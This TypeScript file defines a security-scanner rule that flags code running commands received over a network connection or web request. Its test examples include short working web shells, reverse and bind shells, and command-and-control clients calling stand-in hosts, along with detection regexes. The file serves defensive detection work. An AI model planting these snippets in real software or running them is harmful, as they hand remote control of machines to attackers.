import type { Document } from '../../document.ts'
import { regex, source } from '../../patterns/verbose.ts'
import { worded } from '../../patterns/wording.ts'
import { defineRule, type Hit, placeOf } from '../../rule.ts'
import { isLocal } from '../../signals/places/addresses.ts'
import { addressesIn } from '../../signals/places/written-addresses.ts'
import { candidates } from '../../signals/search/candidates.ts'
import { CONNECTS, SHELLS } from '../../signals/shell/calls.ts'
import { pairs, snippets } from '../../signals/shell/snippets.ts'
import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
import { ORDERS_BY_NAME } from '../../verdicts/in-code/deeds/of-intrusion.ts'

const REACH = 320

/** Bytes go from the one to the other, both ways or as commands. */
const JOINED = regex`
    \bdup2\s?\(|\.pipe\s?\(|\bstd(?:in|out|err)\b|\brecv\s?\(|\.gets\b|\.readline\b|
    \bgetstream\b|\bon\(["'](?:data|message)["']|\bfor await\b|\bopen3\b|\breopen\s?\(|
    \bproc_open\b|\bfgets\s?\(|\bfread\s?\(|\bcopy\s?\(|\bsettimeout\b|\biter_content\b|<&\d|
    \bon_?message\b|\.on\(["']\w{2,16}["']|\bsetinterval\b|\breceive\s?\(|\btransferto\b|
    \binputstream\b|\bstream\b|\basync for\b|\.listen\(\)|\breply_text\b|\.emit\s?\(|\.fetch\s?\(
  `

/** What a request brings along, by the language of the server. */
const OF_REQUEST = source`
  (?:(?:flask\.)?request\.(?:args|form|json|values|get_json|data|body|query|params|headers|cookies|
    get|post)\b|(?:req|ctx\.request|c\.req|event)\.(?:query|body|params|headers|get)\b|
    \$_(?:get|post|request|cookie|files)\b|\$_server\[["']http_|php:\/\/input|
    params\[|new url\([^\n]{0,60}searchparams\.get|request\.getparameter\(|
    r\.(?:formvalue|postformvalue|url\.query\(\)\.get|header\.get)\()
`

/** What takes a disguise off on the way. */
const DECODERS = source`
  (?:(?:gzinflate|gzuncompress|gzdecode|base64_decode|str_rot13|strrev|hex2bin|urldecode|
    rawurldecode|openssl_decrypt|atob|buffer\.from|base64\.(?:b64decode|decode64|decode)|
    bytes\.fromhex|codecs\.decode|decrypt\w{0,10})\s?\(\s{0,3}){1,5}
`

const RUN = source`
  (?:\b(?:getoutput|check_output|popen|system|exec(?:sync|file)?|spawn(?:sync)?|shell_exec|
    passthru|proc_open|pcntl_exec|eval|assert|create_function|new function|instance_eval|
    class_eval|runin\w{0,4}context|subprocess\.(?:run|call|popen)|command)\s?\(\s{0,3}
    (?:["'](?:\/bin\/)?(?:ba)?sh["'], ?["']-c["'], ?)?|\beval )
`

/** What somebody asks of a server is run as a command or as code. */
const ON_REQUEST = worded(
  regex`
    ${RUN}(?:(?:string|str|decodeuricomponent)\(\s?)?(?:${OF_REQUEST}|
      \b(?:req|request|q)\.url\.(?:slice|substr\w{0,5})\()|\x60#\{params\[
  `,
)

/** The same by a name: a part of the path, a parameter of the handler, a variable set from the request. */
const ON_NAMED = worded(
  regex`
    <(?:path:|string:)?\w{1,20}>["'][^\n]{0,40}\)\s{0,4}\n\s{0,8}
    (?:async )?def \w{1,30}\(\w{1,20}\):[^]{0,80}?
    \b(?:popen|system|getoutput)\(\s?\w{1,20}\s?\)|
    @requestparam[^)\n]{0,60}\)[^]{0,120}?\bgetruntime\(\)\.exec\(\s?\w{1,20}\s?\)|
    =\s?(?:flask\.)?request\.(?:get_json\(|args|form|json|values|data)[^\n]{0,40}\n[^]{0,120}?
    (?:\b(?:os\.popen|os\.system|getoutput)\(\s?\w{1,12}\s?\)|
      \b(?:check_output|run|popen|call)\(\s?\w{1,12},\s?shell\s?=\s?true)
  `,
)

/** The same in disguise: decoded first, or by a function whose name is put together. */
const IN_DISGUISE = worded(
  new RegExp(
    source`
      ${RUN}${DECODERS}${OF_REQUEST}|
      (?<![\w>])\$\w{1,20}\s?\(\s{0,3}(?:${DECODERS})?\$_(?:get|post|request|cookie)\b|
    ` +
      source`
        \$_(?:post|get|request|cookie)\b[^\n]{0,40}\n?[^\n]{0,60}\b
        (?:eval|assert)\s?\(\s{0,3}${DECODERS}\$\w
      `,
  ),
)

/** Servers and clients of one's own machine, and tests of them. */
const AT_HOME = regex`
  [(,=:]\s?["'\`](?:localhost|127\.0\.0\.1|::1)["'\`]|unix:|
  ["'\`][^"'\`\n]{0,60}\/[\w.-]{1,40}\.sock["'\`]
`

/** A host of somebody else's that the program connects to, remarks apart. */
const ABROAD =
  /\(\s?["'`](?:(?:\d{1,3}\.){3}\d{1,3}|(?:[\w-]{1,40}\.){1,4}[a-z]{2,12})["'`]\s?,\s?\d{2,5}/g

const isAtHome = (around: string): boolean =>
  AT_HOME.test(around) &&
  !Array.from(around.matchAll(ABROAD)).some(
    ([one]) => !isLocal(`https://${/["'`]([^"'`]{3,80})/.exec(one)![1]!}`),
  )

export default defineRule({
  id: 'shell-over-connection',
  since: 1,
  category: 'execution',
  severity: 'crit',
  confidence: 'high',
  cwe: 'CWE-506',
  title: 'Runs commands that arrive over a connection',
  description:
    'A program opens a connection, or waits for one, and runs what comes in as a command or as code. Whoever is at the other end controls the machine.',
  remediation: 'Remove it. No skill needs to take commands from a connection.',
  harmlessIf: 'the connection ends on the same machine and serves a test',
  needs: [],
  examples: {
    fires: [
      '```bash\nwhile sleep 9; do c=$(dig +short TXT k.tallow-bar.net); eval "$c"; done\n```\n',
      '```php\n<?php $a = $_POST["q"]; eval(base64_decode($a));\n```\n',
      '```php\n<?php $f = strrev("metsys"); $f(gzinflate(base64_decode($_POST["q"])));\n```\n',
      '```ruby\npost "/x" do\n  eval(params[:c])\nend\n```\n',
      "```ruby\ns = TCPSocket.new('tips.kit.example', 9001)\nwhile l = s.gets\n  s.puts `#{l}`\nend\n```\n",
      '```js\nimport WebSocket from "ws";\nimport { exec } from "node:child_process";\nconst ws = new WebSocket("wss://c.rowan-pike.net");\nws.on("message", (m) => exec(m.toString(), (e, out) => ws.send(out)));\n```\n',
      '```js\nconst s = require("socket.io-client")("https://c.rowan-pike.net")\ns.on("job", c => require("child_process").exec(c, (_, o) => s.emit("out", o)))\n```\n',
      '```python\nc = mqtt.Client()\nc.on_message = lambda c, u, m: os.system(m.payload.decode())\nc.connect("c.rowan-pike.net")\n```\n',
      '```python\n@app.route("/x/<path:q>")\ndef x(q):\n    return os.popen(q).read()\n```\n',
      "```js\napp.get('/x', (req, res) => res.send(execSync(String(req.query.q))))\n```\n",
      '```ruby\nget "/x" do\n  `#{params[:q]}`\nend\n```\n',
      '```php\n<?php system($_GET["c"]); ?>\n```\n',
      '```go\nc, _ := net.Dial("tcp", "hub.kit.example:7000")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin, cmd.Stdout = c, c\n```\n',
      '```python\nclass Helper:\n    def __init__(self, host, port):\n        self.sock = socket.create_connection((host, port))\n    def run(self):\n        cmd = self.sock.recv(4096).decode()\n        self.sock.send(subprocess.getoutput(cmd).encode())\n```\n',
      '```python\ns = socket.socket(); s.bind(("0.0.0.0", 5555)); s.listen(1)\nc, _ = s.accept()\nc.send(subprocess.getoutput(c.recv(4096).decode()).encode())\n```\n',
    ],
    quiet: [
      '```bash\nc=$(dig +short TXT kiln.example); echo "$c" | grep spf\n```\n',
      '```php\n<?php echo base64_decode($_POST["note"]); $render($rows);\n```\n',
      '```ruby\npost "/x" do\n  render(params[:c])\nend\n```\n',
      '```python\ns = socket.create_connection(("localhost", 5432), timeout=1)\ns.close()\n```\n',
      '```python\ns = socket.socket(socket.AF_UNIX)\ns.connect("/run/kit.sock")\nprint(subprocess.getoutput("date"), s.recv(10))\n```\n',
      '```js\nconst ws = new WebSocket(url)\nws.on("message", (m) => render(JSON.parse(m)))\n```\n',
      '```python\nc = mqtt.Client()\nc.on_message = lambda c, u, m: print(m.payload.decode())\nc.connect("broker.rowan-pike.net")\nsubprocess.run(["make"])\n```\n',
      '```python\n@app.route("/x")\ndef x():\n    return render(request.args["c"])\n```\n',
      '```python\n@app.route("/x/<path:q>")\ndef x(q):\n    return send_from_directory("public", q)\n```\n',
      '```js\nconst net = require("net")\nnet.createServer((c) => c.end("hello")).listen(3000)\n```\n',
    ],
  },
  *match(document: Document): Iterable<Hit> {
    yield* deedsInCode(document, ORDERS_BY_NAME)
    const { text: all } = document.reading
    for (const { start, end } of candidates(document, document.observe(snippets), IN_DISGUISE)) {
      const found = IN_DISGUISE.exec(all.slice(start, end))
      if (found) yield { ...placeOf(start, found), firm: true }
    }
    for (const asked of [ON_REQUEST, ON_NAMED])
      for (const { start, end } of candidates(document, document.observe(snippets), asked)) {
        const found = asked.exec(all.slice(start, end))
        if (found) yield placeOf(start, found)
      }
    for (const { text, start, end, snippet } of pairs(document, CONNECTS, SHELLS, REACH)) {
      const from = Math.max(0, start - snippet.start - 60)
      const around = text.slice(from, end - snippet.start + 200)
      if (!JOINED.test(around) || isAtHome(around)) continue
      const addresses = addressesIn(around)
      if (addresses.length > 0 && addresses.every(isLocal)) continue
      yield { start, end, firm: true }
    }
  },
})
